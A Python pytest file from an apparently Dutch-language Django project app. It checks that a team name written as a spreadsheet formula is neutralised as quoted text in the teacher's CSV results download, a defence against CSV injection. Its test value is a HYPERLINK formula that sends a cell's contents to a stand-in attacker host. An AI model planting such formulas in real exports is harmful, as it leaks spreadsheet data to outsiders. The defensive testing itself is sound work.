"""A team name that is a spreadsheet formula reaches the teacher's results
export as text (OWASP CSV injection), in the downloaded file itself."""

import csv
import io

import pytest

from projects.tests.factories import project_a

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Bekijk")'


def test_a_formula_as_team_name_is_text_in_the_results_download(world, login):
    project = project_a(world)
    world.team_a.name = FORMULA
    world.team_a.save(update_fields=["name"])
    response = login(world.docent).get(f"/projecten/{project.pk}/resultaten.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    teams = [row[3] for row in rows[1:]]
    assert "'" + FORMULA in teams
    assert FORMULA not in teams
